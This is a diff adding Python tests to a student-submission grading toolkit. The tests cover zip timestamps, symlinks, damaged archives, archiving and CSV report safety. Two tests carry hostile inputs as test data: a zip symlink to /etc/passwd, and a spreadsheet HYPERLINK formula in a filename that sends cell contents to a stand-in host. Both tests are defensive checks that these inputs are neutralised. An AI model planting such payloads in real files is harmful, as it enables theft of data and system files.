@@ -328,3 +328,102 @@ def test_report_passes_axe_and_makes_no_requests(course):
             assert log.external == []
         finally:
             browser.close()
+
+
+def test_zip_times_are_norwegian_time_whatever_the_server_zone(course, tmp_path, release, monkeypatch):
+    """A zip stores local time without a zone: 11:30 in Norway is 10:30 UTC, before the 12:00 deadline."""
+    import time
+    import zipfile
+
+    from grading.collect import collect_folder
+
+    monkeypatch.setenv("TZ", "UTC")  # a server in UTC
+    time.tzset()
+    try:
+        zpath = tmp_path / "per.zip"
+        with zipfile.ZipFile(zpath, "w") as zf:
+            zf.writestr(zipfile.ZipInfo("per_vage.ipynb", (2026, 11, 20, 11, 30, 0)),
+                        nbformat.writes(answered(release)))
+        collect_folder(course, "vage", zpath, progress=False)
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+    stamp = (course / "submitted" / "per" / "vage" / "timestamp.txt").read_text().strip()
+    assert stamp == "2026-11-20 10:30:00.000000 UTC"
+    assert ("per", "for_sen") not in {(a.student, a.kind) for a in scan(course, "vage")}
+
+
+def test_symlink_in_zip_is_not_collected(course, tmp_path):
+    import stat
+    import zipfile
+
+    from grading.collect import collect_folder
+
+    zpath = tmp_path / "lenke.zip"
+    with zipfile.ZipFile(zpath, "w") as zf:
+        info = zipfile.ZipInfo("per_vage.ipynb", (2026, 11, 20, 10, 0, 0))
+        info.external_attr = (stat.S_IFLNK | 0o777) << 16
+        zf.writestr(info, "/etc/passwd")
+    res = collect_folder(course, "vage", zpath, progress=False)
+    assert res.collected == []
+    assert [e["kind"] for e in res.events] == ["ukjent_fil"]
+    assert "symlink" in res.events[0]["message"]
+    assert not (course / "submitted" / "per").exists()
+    assert not (course / "arkiv" / "vage" / "per").exists()
+
+
+def test_report_csv_does_not_let_learner_text_become_a_formula(tmp_path):
+    import csv
+
+    bad = '=HYPERLINK("http://x.example/?"&A1;"klikk").ipynb'
+    items = [Anomaly("(ukjent)", "vage", "ukjent_fil", f"«{bad}» er ikke samlet inn.", file=bad),
+             Anomaly("ola", "vage", "ukjent_fil", "x", file="@SUM(1+1).ipynb")]
+    path = write_report(tmp_path, "vage", items, out_dir=tmp_path / "ut")["csv"]
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.DictReader(fh, delimiter=";"))
+    assert {r["fil"] for r in rows} == {"'" + bad, "'@SUM(1+1).ipynb"}
+    assert all(not r[c].startswith(("=", "+", "-", "@")) for r in rows for c in r)
+    assert {r["deltaker"] for r in rows} == {"(ukjent)", "ola"}
+
+
+def test_collect_keeps_an_unarchived_submission_before_replacing_it(course, tmp_path, release):
+    """ola's submission in submitted/ (put there outside the toolkit) is archived, not lost."""
+    import hashlib
+
+    from grading.collect import collect_folder, verify_archive
+
+    old = (course / "submitted" / "ola" / "vage" / "vage.ipynb").read_bytes()
+    assert not (course / "arkiv" / "vage" / "ola").exists()
+    src = tmp_path / "ny"
+    src.mkdir()
+    newer = nbformat.writes(release).encode()
+    (src / "ola_vage.ipynb").write_bytes(newer)
+    res = collect_folder(course, "vage", src, when=dt.datetime(2026, 11, 20, 10, 30, tzinfo=dt.timezone.utc),
+                         progress=False)
+    assert res.students == ["ola"]
+    assert (course / "submitted" / "ola" / "vage" / "vage.ipynb").read_bytes() == newer
+    shas = {hashlib.sha256(p.read_bytes()).hexdigest() for p in (course / "arkiv" / "vage" / "ola").rglob("*.ipynb")}
+    assert shas == {hashlib.sha256(old).hexdigest(), hashlib.sha256(newer).hexdigest()}
+    assert verify_archive(course, "vage") == []
+
+
+def test_damaged_zip_member_is_reported_and_the_rest_collected(course, tmp_path, release):
+    import zipfile
+
+    from grading.collect import collect_folder
+
+    good = nbformat.writes(answered(release)).encode()
+    zpath = tmp_path / "skadet.zip"
+    with zipfile.ZipFile(zpath, "w", compression=zipfile.ZIP_STORED) as zf:
+        zf.writestr("per_vage.ipynb", good)
+        zf.writestr("ola_vage.ipynb", good)
+    raw = bytearray(zpath.read_bytes())
+    per_at = raw.index(b"per_vage.ipynb") + len("per_vage.ipynb")
+    first = raw.index(b'"cells"', per_at)
+    raw[first + 1] ^= 0x20  # break the CRC of per's member
+    zpath.write_bytes(bytes(raw))
+    res = collect_folder(course, "vage", zpath, progress=False)
+    assert res.students == ["ola"]
+    (ev,) = [e for e in res.events if e["kind"] == "ukjent_fil"]
+    assert ev["file"] == "per_vage.ipynb" and "kan ikke leses" in ev["message"]
+    assert not (course / "submitted" / "per").exists()
